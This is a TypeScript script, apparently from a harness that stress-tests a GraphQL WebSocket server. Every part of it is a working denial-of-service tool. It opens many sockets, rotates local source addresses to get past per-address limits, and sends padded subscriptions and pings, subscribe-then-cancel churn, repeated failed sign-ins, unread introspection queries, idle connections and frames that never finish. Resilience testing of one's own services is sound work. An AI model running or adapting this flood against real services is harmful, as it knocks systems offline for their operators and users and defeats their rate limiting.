/** Floods over WebSockets. Whatever the server closes is opened again. */
import { once } from 'node:events'
import { setTimeout as delay } from 'node:timers/promises'
import { WebSocket } from 'ws'
import { inLanes, runFlood, type Attack, type Flood } from './run-flood.ts'

interface Open {
  readonly socket: WebSocket
  send(message: object): void
}

/** A socket that the server has taken in; null where it has not. */
async function open(attack: Attack, lane: number): Promise<Open | null> {
  const { origin, given, address } = attack
  const socket = new WebSocket(`ws://${origin.host}/graphql`, 'graphql-transport-ws', {
    localAddress: address(Math.floor(lane / 16)),
    ...(given['token'] === undefined && { origin: origin.origin }),
  })
  socket.on('error', () => undefined)
  socket.once('close', (code) => attack.met(`closed with ${code}`))
  await Promise.race([once(socket, 'open'), once(socket, 'close')]).catch(() => undefined)
  const send = (message: object) => socket.send(JSON.stringify(message), () => undefined)
  if (socket.readyState !== socket.OPEN) return null
  const { token } = given
  send({
    type: 'connection_init',
    payload: typeof token === 'string' ? { authorization: `Bearer ${token}` } : {},
  })
  await Promise.race([once(socket, 'message'), once(socket, 'close')])
  return socket.readyState === socket.OPEN ? { socket, send } : null
}

/** Some 13,000 small messages a second of all lanes are twenty times what is let through. */
const breath = async (turn: number): Promise<void> => {
  if (turn % 20 === 0) await delay(50)
}

/** Sends over and over on a socket, as long as the server lets it. */
const over =
  (lanes: number, act: (open: Open, turn: number, attack: Attack) => Promise<void> | void): Flood =>
  async (attack) => {
    await inLanes(attack, lanes, async (lane) => {
      attack.sent()
      const opened = await open(attack, lane)
      for (let turn = 0; opened?.socket.readyState === WebSocket.OPEN && attack.goesOn(); turn++) {
        await act(opened, turn, attack)
        attack.sent()
        // What waits here is not on its way.
        if (opened.socket.bufferedAmount > 1_000_000) await delay(50)
      }
      opened?.socket.terminate()
      await delay(20)
    })
  }

const padding = 'x'.repeat(250_000)
const subscription = 'subscription { conversionUpdated(id: "no") { status } }'
const signIn =
  'mutation { signIn(input: { email: "nobody@example.com", password: "not the right one" }) { session { accessToken } } }'
const subscribe = (id: string, query: string, variables: object = {}) => ({
  id,
  type: 'subscribe',
  payload: { query, variables },
})

await runFlood({
  'large operations': over(32, ({ send }, turn) => send(subscribe(String(turn), subscription, { padding }))),
  'pings with payloads': over(32, ({ socket, send }) => {
    socket.pause()
    send({ type: 'ping', payload: { padding } })
  }),
  'operations given up at once': over(32, async ({ send }, turn) => {
    send(subscribe(String(turn), subscription))
    send({ id: String(turn), type: 'complete' })
    await breath(turn)
  }),
  'passwords given up at once': over(32, async ({ send }, turn) => {
    send(subscribe(String(turn), signIn))
    send({ id: String(turn), type: 'complete' })
    await breath(turn)
  }),
  'answers that nobody reads': over(32, async ({ socket, send }, turn) => {
    socket.pause()
    send(subscribe(String(turn), '{ __schema { types { name description fields { name description } } } }'))
    await breath(turn)
  }),
  'sockets that say nothing': over(512, async () => await delay(500)),
  'messages that do not end': over(256, async ({ socket }) => {
    socket.send(padding.slice(0, 120_000), { fin: false }, () => undefined)
    await delay(500)
  }),
})
